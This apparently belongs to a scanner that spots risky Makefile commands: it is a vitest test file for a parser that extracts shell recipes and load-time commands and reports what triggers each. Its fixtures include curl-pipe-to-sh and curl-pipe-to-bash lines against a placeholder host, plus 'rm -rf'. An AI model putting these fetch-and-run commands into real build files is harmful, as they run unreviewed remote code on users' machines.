import { expect, test } from "vitest";
import { MAX_RECIPES, readMakefile } from "../../../src/read/manifest/read-makefile.ts";
import { place, tell, type Told } from "./tell.ts";

const read = (text: string): Told => tell(readMakefile, "Makefile", text, "makefile");

const text = `URL = https://x.example
NOW := $(shell curl -s $(URL)/now | sh)
HASH != git rev-parse HEAD

install: deps
\t@-curl -s $(URL)/i.sh \\
\t  | bash
\techo $$HOME $(UNKNOWN) $@

clean: ; rm -rf build
# a comment: not a rule
`;
const told = read(text);

test("recipes, with make's variables filled in", () => {
  expect(told.embedded.map((child) => [child.field, child.context.trigger, child.text])).toEqual([
    ["shell", "load", "curl -s https://x.example/now | sh"],
    ["shell", "load", "git rev-parse HEAD"],
    ["install", "install", "curl -s https://x.example/i.sh \\\n\t  | bash"],
    ["install", "install", "echo $HOME ${UNKNOWN} install"],
    ["clean", "call", " rm -rf build"],
  ]);
});

test("in their places", () => {
  expect(told.embedded[2]?.placeOf("/i.sh")).toBe(place(text, "/i.sh"));
  expect(told.embedded[2]?.placeOf("| bash")).toBe(place(text, "| bash"));
  expect(told.embedded[4]?.placeOf("rm -rf")).toBe(place(text, "rm -rf"));
});

test("variables made of others, and what a recipe is to make", () => {
  const made = read(`HOST = tools.x.example
URL := https://$(HOST)/$(VERSION)/$(OS)
OS := $(shell uname)
OUT = bin/$(NAME)
NAME = gen
SELF = $(SELF)/x

$(OUT): src/gen.c
\t@curl -o $@ $(URL)
\tcc $< $^ $(SELF)
a b:
\techo $@
`);
  expect(made.embedded.filter(({ field }) => field !== "shell").map((child) => child.text)).toEqual([
    "curl -o bin/gen https://tools.x.example/${VERSION}/${OS}",
    `cc src/gen.c "$MAKE_TARGET" $(SELF)${"/x".repeat(7)}`,
    'echo "$MAKE_TARGET"',
  ]);
});

test("a tab before the first rule is no recipe", () => {
  expect(read("\techo x\n").embedded).toEqual([]);
});

test("as many recipes as are read, and one more", () => {
  expect(read(`a:\n${"\tid\n".repeat(MAX_RECIPES)}`).gaps).toEqual([]);
  expect(read(`a:\n${"\tid\n".repeat(MAX_RECIPES + 1)}`).gaps).toMatchObject([{ code: "too-many" }]);
});

test.each(["$(shell ", "a:", "a\\\n", "\t$$", "A=b\n"])("100,000 times %j", (part) => {
  expect(read(`a:\n\t${part.repeat(100_000)}`).gaps.length).toBeLessThan(2);
});
